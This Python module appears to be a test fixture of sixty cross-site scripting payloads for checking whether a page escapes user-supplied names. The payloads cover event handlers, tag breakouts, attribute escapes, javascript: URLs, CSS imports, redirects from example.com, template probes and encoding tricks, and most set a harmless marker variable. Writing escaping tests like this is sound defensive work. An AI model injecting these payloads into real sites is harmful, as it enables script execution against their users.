"""Sixty names that would run, load or change something where a page does not escape them."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_HIT = "window.__hit=1"

PAYLOADS: tuple[str, ...] = (
    # elements that run at once
    f"<script>{_HIT}</script>",
    f"<SCRIPT\n>{_HIT}</SCRIPT\t>",
    "<script src=https://example.com/x.js></script>",
    f"<script src=data:text/javascript,{_HIT}></script>",
    f"<scr<script>ipt>{_HIT}</scr</script>ipt>",
    f"<img src=x onerror={_HIT}>",
    f"<img/src='x'/onerror='{_HIT}'>",
    "<img src=x onerror=alert(1)>",
    f"<svg onload={_HIT}>",
    f"<svg><script>{_HIT}</script></svg>",
    f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={_HIT}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_HIT}/>#x'/></svg>",
    f"<svg><foreignObject><body onload={_HIT}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_HIT}></mtext></math>",
    f"<body onload={_HIT}>",
    f"<iframe srcdoc='<script>parent.{_HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_HIT}></iframe>",
    f"<object data=javascript:{_HIT}></object>",
    "<embed src=https://example.com/x.swf>",
    f"<video><source onerror={_HIT}></video>",
    f"<audio src=x onerror={_HIT}>",
    f"<details open ontoggle={_HIT}>",
    f"<input autofocus onfocus={_HIT}>",
    f"<select autofocus onfocus={_HIT}>",
    f"<marquee onstart={_HIT}>",
    f"<dialog open onfocus={_HIT}>",
    f"<custom-tag tabindex=1 onfocus={_HIT} autofocus>",
    # closing what surrounds a name
    f"</script><script>{_HIT}</script>",
    f"</style><script>{_HIT}</script>",
    f"</title><script>{_HIT}</script>",
    f"</textarea><img src=x onerror={_HIT}>",
    f"--><script>{_HIT}</script><!--",
    f"<!-- <img src='--><img src=x onerror={_HIT}>'>",
    f"]]><script>{_HIT}</script>",
    f"</td></tr></table><img src=x onerror={_HIT}>",
    f"</svg><img src=x onerror={_HIT}>",
    f"</noscript><img src=x onerror={_HIT}>",
    f"</option></datalist><img src=x onerror={_HIT}>",
    # leaving an attribute
    f'" onmouseover="{_HIT}" x="',
    f"' autofocus onfocus='{_HIT}' x='",
    f'"><img src=x onerror={_HIT}>',
    f"'><svg onload={_HIT}>",
    f"` onerror=`{_HIT}",
    '" style="background:url(https://example.com/x)" x="',
    # addresses
    f"javascript:{_HIT}",
    f"java\tscript:{_HIT}",
    f"<a href='javascript:{_HIT}' autofocus>go</a>",
    "<base href=https://example.com/>",
    "<meta http-equiv=refresh content='0;url=https://example.com/'>",
    "<link rel=stylesheet href=https://example.com/x.css>",
    f"<form action=javascript:{_HIT}><button autofocus>x</button></form>",
    # style
    "<style>@import url(https://example.com/x.css);</style>",
    "x;background:url(https://example.com/x.png)",
    # template syntax, entities, and what hides text
    "{{ 7 * 7 }}{% raw %}{# #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"&lt;script&gt;{_HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={_HIT}&#62;",
    f"\u202e<script>{_HIT}</script>\u202c",
    f"\ufeff<\u0000script>{_HIT}</script>\u200b".replace("\u0000", ""),
)
